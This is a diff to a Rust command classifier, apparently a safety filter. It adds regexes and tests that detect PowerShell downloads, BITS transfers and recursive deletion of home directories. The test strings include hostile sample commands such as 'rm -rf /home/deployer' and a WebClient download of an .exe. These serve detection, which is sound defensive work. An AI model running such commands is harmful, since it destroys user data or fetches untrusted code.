@@ -49,6 +49,8 @@ static DOWNLOAD_EXEC: LazyLock<Vec<Regex>> = LazyLock::new(|| {
         re(
             r"(?i)\b(curl|wget)\b[^;&|\n]*\s(-o|-O|--output)\s*\S+[^;&|\n]*(;|&&)\s*chmod\s+\S+\s+\S+\s*(;|&&)\s*\S",
         ),
+        re(r"(?i)net\.webclient\)?\s*\.\s*download(file|string|data)\b"),
+        re(r"(?i)\bstart-bitstransfer\b"),
         re(r"(?i)\bcertutil(\.exe)?\s+.*-urlcache\b"),
         re(r"(?i)\bbitsadmin(\.exe)?\s+/transfer\b"),
         re(r"(?i)\bpowershell(\.exe)?\b.*\s-(e|enc|encodedcommand)\s+[a-z0-9+/=]{16,}"),
@@ -87,7 +89,7 @@ static PERSIST: LazyLock<Vec<Regex>> = LazyLock::new(|| {
 static DESTROY: LazyLock<Vec<Regex>> = LazyLock::new(|| {
     vec![
         re(
-            r#"(?i)\brm\s+(-[a-z]*r[a-z]*|--recursive)(\s+-[a-z]+)*\s+(--no-preserve-root\s+)?["']?(~/?|/|\$HOME/?|\$\{HOME\}/?|/\*|~/\*|\$HOME/\*|/home/?|/root/?|/etc/?|/usr/?)["']?(\s|$|;|&|\|)"#,
+            r#"(?i)\brm\s+(-[a-z]*r[a-z]*|--recursive)(\s+-[a-z]+)*\s+(--no-preserve-root\s+)?["']?(~/?|/|\$HOME/?|\$\{HOME\}/?|/\*|~/\*|\$HOME/\*|/home/?|/home/[^/\s'"]+/?|/users/[^/\s'"]+/?|/root/?|/etc/?|/usr/?)["']?(\s|$|;|&|\|)"#,
         ),
         re(r"(?i)\b(rd|rmdir)\s+/s\s+/q\s+[a-z]:\\(\s|$)"),
         re(r"(?i)\bdel\s+/[fsq]\s+/[fsq]\s+/[fsq]\s+[a-z]:\\"),
@@ -173,6 +175,8 @@ mod tests {
         assert!(classify("rm -rf ~").destroy.is_some());
         assert!(classify("rm -rf / --no-preserve-root").destroy.is_some());
         assert!(classify("rm -rf ./build").destroy.is_none());
+        assert!(classify("rm -rf /home/deployer").destroy.is_some());
+        assert!(classify("rm -rf /home/deployer/.cache").destroy.is_none());
         assert!(classify("rm -rf dist/ && tsc").destroy.is_none());
         assert!(classify("echo x >> ~/.bashrc").persist.is_some());
         assert!(
@@ -188,5 +192,10 @@ mod tests {
         );
         assert!(classify("echo curly braces").net_tool.is_none());
         assert!(classify("whoami").recon.is_some());
+        assert!(
+            classify("powershell -Command \"(New-Object Net.WebClient).DownloadFile('http://x/p.exe','p.exe')\"")
+                .download_exec
+                .is_some()
+        );
     }
 }
